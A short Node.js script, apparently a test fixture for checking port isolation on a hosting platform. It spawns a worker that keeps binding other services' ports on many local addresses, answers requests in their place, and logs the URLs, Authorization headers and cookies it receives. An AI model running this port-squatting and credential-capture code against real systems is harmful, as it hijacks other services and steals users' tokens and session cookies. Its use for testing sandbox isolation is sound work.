// An app that takes other ports: in all ways, again and again, and answers in their place. It notes in squatter.log what it got,
// with the headers that are secrets, and in rounds.log that it tries. /ports has the ports, one a line; a host may follow.
'use strict';
const { spawn } = require('node:child_process');
const { appendFileSync, existsSync, readFileSync, renameSync, writeFileSync } = require('node:fs');
const http = require('node:http');

/** @param {string} name */
const at = (name) => `${process.env['TMPDIR']}/${name}`;
const hosts = ['127.0.0.1', '0.0.0.0', '::', '::1', '::ffff:127.0.0.1', '127.0.0.2'];

if (process.argv[2] === 'squat') squat();
else {
  // The worker's own module is patched to serve what it listens on; a plain process is not.
  spawn(process.execPath, [__filename, 'squat'], { stdio: 'inherit' });
  http.createServer((_request, response) => response.end('at your service')).listen(process.env['PORT']);
}

async function squat() {
  for (let round = 1; ; round += 1) {
    const ports = existsSync(at('ports'))
      ? readFileSync(at('ports'), 'utf8').split('\n').filter(Boolean)
      : [];
    for (const [port, only] of ports.map((line) => line.split(' ')))
      for (const host of only === undefined ? hosts : [only])
        for (const reusePort of [false, true]) await take(Number(port), host, reusePort);
    // The one of the worker before may run still.
    const temporary = at(`rounds.${process.pid}`);
    writeFileSync(temporary, String(round));
    renameSync(temporary, at('rounds.log'));
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
}

/** @param {number} port @param {string} host @param {boolean} reusePort @returns {Promise<unknown>} */
function take(port, host, reusePort) {
  return new Promise((resolve) => {
    const server = http.createServer(({ url, headers }, response) => {
      appendFileSync(
        at('squatter.log'),
        `${port} ${url} ${headers.authorization ?? ''} ${headers.cookie ?? ''}\n`,
      );
      response.end('taken');
    });
    server.on('error', resolve);
    server.listen({ port, host, reusePort, exclusive: true }, () => {
      appendFileSync(at('squatter.log'), `got ${host} ${port}\n`);
      resolve(undefined);
    });
  });
}
